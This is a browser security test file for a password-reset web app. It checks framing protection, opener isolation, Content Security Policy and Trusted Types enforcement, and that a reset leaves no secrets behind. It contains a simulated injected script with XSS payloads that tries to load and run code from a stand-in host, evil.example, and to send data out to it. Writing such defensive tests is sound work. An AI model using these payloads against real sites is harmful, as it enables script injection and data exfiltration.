// What a browser makes of sites that frame our pages, of scripts that are not ours, and of what a reset leaves behind
// (attacks A85, A90, A91). What the worker's headers say about it is looked at by `cargo xtask attack`.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { account, authenticatorCode, codeIn, mails, origin } from "./edge.mjs";

const EVIL = "https://evil.example";
/** How long something that must not happen is waited for. */
const TIME_MS = 1_500;

/** A page of another site: another port is another origin. */
const elsewhere = async (html) => {
  const server = createServer((_, answer) => answer.writeHead(200, { "content-type": "text/html" }).end(html));
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return { address: `http://127.0.0.1:${server.address().port}/`, close: () => server.close() };
};

/** Collects what the policy stopped, as the page itself hears of it. */
const watchPolicy = (page) =>
  page.addInitScript(() => {
    globalThis.stopped = [];
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => globalThis.stopped.push(effectiveDirective));
  });

/** Runs in the page, as a script that got in would: tries everything there is to gain by, and tells what came of it. */
const everything = async (evil) => {
  const result = {};
  const wait = () => new Promise((resolve) => setTimeout(resolve, 200));
  const attempt = async (name, work) => {
    try {
      result[name] = await work();
    } catch (error) {
      result[name] = error.name;
    }
  };
  const element = (name, set = {}) => {
    const made = document.createElement(name);
    for (const [attribute, value] of Object.entries(set)) made.setAttribute(attribute, value);
    document.body.append(made);
    return made;
  };
  const hasRun = async () => {
    await wait();
    return globalThis.ran === true;
  };
  await attempt("inline", () => {
    const script = document.createElement("script");
    script.append("globalThis.ran = true");
    document.body.append(script);
    return hasRun();
  });
  await attempt("foreign", () => (element("script", { src: `${evil}/x.js` }), hasRun()));
  await attempt("data", () => (element("script", { src: "data:text/javascript,globalThis.ran=true" }), hasRun()));
  await attempt("import", () => import(`${evil}/x.js`));
  await attempt("timer", () => (setTimeout("globalThis.ran = true"), hasRun()));
  await attempt("handler", () => (element("button", { onclick: "globalThis.ran = true" }).click(), hasRun()));
  await attempt("link", () => (element("a", { href: "javascript:globalThis.ran = true" }).click(), hasRun()));
  await attempt("eval", () => globalThis.eval("1 + 1"));
  await attempt("function", () => new Function("return 2")());
  await attempt("html", () => {
    document.querySelector("main").innerHTML = "<img src=x onerror='globalThis.ran = true'>";
    return "set";
  });
  await attempt("policy", () => globalThis.trustedTypes.createPolicy("evil", { createHTML: (html) => html }).name);
  await attempt("twin", () => globalThis.trustedTypes.createPolicy("latchkey", { createScriptURL: (url) => url }).name);
  await attempt("worker", () => (new Worker(`${evil}/x.js`), "made"));
  await attempt("base", () => {
    const base = document.createElement("base");
    base.href = `${evil}/`;
    document.head.prepend(base);
    return new URL("x", document.baseURI).origin === evil;
  });
  await attempt("form", async () => {
    element("form", { action: `${evil}/`, method: "post" }).submit();
    await wait();
    return "asked";
  });
  await attempt("fetch", async () => (await fetch(`${evil}/`)).status);
  await attempt("beacon", async () => (navigator.sendBeacon(`${evil}/`, "x"), await wait(), "asked"));
  await attempt("image", async () => (element("img", { src: `${evil}/x.png` }), await wait(), "asked"));
  await attempt("frame", async () => (element("iframe", { src: `${evil}/` }), await wait(), "asked"));
  await attempt("style", async () => {
    const { backgroundColor } = getComputedStyle(element("p", { style: "background-color: rgb(1, 2, 3)" }));
    return backgroundColor === "rgb(1, 2, 3)";
  });
  return { ...result, ran: globalThis.ran === true };
};

export const tests = {
  "nobody frames our pages, nested or not": async (visit) => {
    const frame = `<iframe src="${origin}/" width="800" height="600"></iframe>`;
    const nested = `<iframe srcdoc='${frame}' width="900" height="700"></iframe>`;
    const object = `<object data="${origin}/" type="text/html" width="800" height="600"></object>`;
    for (const html of [frame, nested, object]) {
      const site = await elsewhere(`<!doctype html><title>evil</title>${html}`);
      try {
        const claimant = await visit();
        await claimant.page.goto(site.address);
        await claimant.page.waitForTimeout(TIME_MS);
        for (const inner of claimant.page.frames().slice(1)) {
          const text = await inner.evaluate(() => document.body?.innerText ?? "").catch(() => "");
          const fields = await inner.locator("input").count().catch(() => 0);
          assert.ok(!text.includes("Work email") && fields === 0, `a frame shows ${text}`);
        }
        assert.ok(claimant.said.some((line) => line.includes("frame-ancestors")), "the browser says why");
        claimant.said = [];
      } finally {
        site.close();
      }
    }
  },

  "another site holds no handle on our window": async (visit) => {
    const site = await elsewhere("<!doctype html><title>evil</title>");
    try {
      const claimant = await visit();
      await claimant.page.goto(site.address);
      const opened = claimant.context.waitForEvent("page");
      await claimant.page.evaluate((address) => (globalThis.victim = open(address)) && undefined, `${origin}/`);
      const ours = await opened;
      await ours.locator("form.group:not(#shell)").waitFor();
      assert.equal(await ours.evaluate(() => globalThis.opener), null, "our page knows whoever opened it");
      assert.equal(await claimant.page.evaluate(() => globalThis.victim.closed), true, "the opener still sees our window");
    } finally {
      site.close();
    }
  },

  "no script, form, base or string of somebody else's does anything": async (visit) => {
    const claimant = await visit();
    const { page } = claimant;
    await watchPolicy(page);
    await page.reload();
    await page.locator("form.group:not(#shell)").waitFor();
    const told = [];
    await claimant.context.route(`${EVIL}/**`, (route) => {
      told.push(route.request().url());
      return route.fulfill({ body: "globalThis.ran = true", contentType: "text/javascript" });
    });
    const tried = await page.evaluate(everything, EVIL);
    const what = JSON.stringify(tried);
    assert.equal(tried.ran, false, `something ran: ${what}`);
    for (const name of ["base", "style"]) assert.equal(tried[name], false, `${name}: ${what}`);
    for (const name of ["eval", "function"]) assert.equal(tried[name], "EvalError", `${name}: ${what}`);
    for (const name of ["html", "policy", "twin", "data", "foreign", "import", "fetch"]) {
      assert.equal(tried[name], "TypeError", `${name}: ${what}`);
    }
    const stopped = new Set(await page.evaluate(() => globalThis.stopped));
    for (const directive of [
      "script-src-elem",
      "style-src-attr",
      "base-uri",
      "form-action",
      "connect-src",
      "img-src",
      "frame-src",
      "trusted-types",
      "require-trusted-types-for",
    ]) {
      assert.ok(stopped.has(directive), `${directive} is not among ${[...stopped]}`);
    }
    assert.equal(new URL(page.url()).origin, origin, "the page is still ours");
    assert.deepEqual(told, [], "somebody else was told something");
    claimant.said = [];
  },

  "a reset leaves nothing behind: no address, storage, history, cache or referrer": async (visit) => {
    const marta = account("marta.kowalska");
    const claimant = await visit();
    const { page, context } = claimant;
    const [requests, answers] = [[], []];
    page.on("request", (request) => requests.push(request));
    page.on("response", (response) => answers.push(response));
    const before = await page.evaluate(() => history.length);
    await claimant.begins(marta);
    await claimant.asksForMail(marta);
    const [message] = await mails(marta.mail);
    const during = await claimant.stored();
    await claimant.types(codeIn(message));
    await claimant.sees("One more proof");
    await claimant.asksForApp();
    const appCode = await authenticatorCode(marta);
    await claimant.types(appCode);
    await claimant.sees("Choose a new password");
    assert.equal(await claimant.stored(), "{}", "after the last gate nothing is stored");
    const password = "canary-lighthouse-parade-47";
    await claimant.saves(password);
    await claimant.sees("Your password is changed");

    const kept = [during, await claimant.stored(), JSON.stringify(await context.storageState())].join("\n");
    const addresses = requests.map((request) => request.url()).join("\n");
    const referrers = (await Promise.all(requests.map((request) => request.headerValue("referer")))).filter(Boolean);
    assert.deepEqual(referrers, [], "no referrer");
    const { length, state, title, url } = await page.evaluate(() => ({
      length: history.length,
      state: JSON.stringify(history.state),
      title: document.title,
      url: location.href,
    }));
    const secrets = [codeIn(message), codeIn(message).replaceAll(/\D/g, ""), marta.mail, appCode, password];
    for (const secret of secrets) {
      for (const [place, text] of Object.entries({ kept, said: claimant.said.join("\n"), addresses, state, title, url })) {
        assert.ok(!text.includes(secret), `${secret} is in ${place}`);
      }
    }
    assert.ok(length <= before + 1, `${length} entries of history; the one that "back" is caught by is enough`);
    assert.equal(new URL(url).search + new URL(url).hash, "", "nothing in the address");
    const left = await page.evaluate(async () => ({
      caches: await globalThis.caches.keys(),
      workers: (await navigator.serviceWorker.getRegistrations()).length,
      databases: (await indexedDB.databases()).length,
      cookies: document.cookie,
    }));
    assert.deepEqual(left, { caches: [], workers: 0, databases: 0, cookies: "" });
    assert.deepEqual(await context.cookies(), [], "no cookie");
    for (const response of answers.filter((response) => response.url().includes("/api/"))) {
      assert.equal(response.headers()["cache-control"], "no-store", response.url());
    }
    // Whoever comes to the machine afterwards and goes back finds neither a field that is filled in nor a way on.
    await page.goto("about:blank");
    await page.goBack();
    await page.locator("form.group:not(#shell)").waitFor();
    const values = await page.evaluate(() => [...document.querySelectorAll("input")].map(({ value }) => value).join("\n"));
    for (const secret of secrets) assert.ok(!values.includes(secret), `${secret} is back in a field`);
  },

  "fields say what they are for, so that nothing is filled in for something else": async (visit) => {
    const clara = account("clara.moreau");
    const claimant = await visit();
    const purpose = (label) => claimant.page.getByLabel(label, { exact: true }).first().getAttribute("autocomplete");
    await claimant.page.locator("form.group:not(#shell)").waitFor();
    assert.equal(await purpose("Work email or user name"), "username");
    await claimant.begins(clara);
    await claimant.asksForApp();
    assert.equal(await purpose("Code"), "one-time-code");
    await claimant.types(await authenticatorCode(clara));
    await claimant.sees("One more proof");
    await claimant.provesByMail(clara);
    await claimant.sees("Choose a new password");
    assert.equal(await purpose("New password"), "new-password");
  },
};
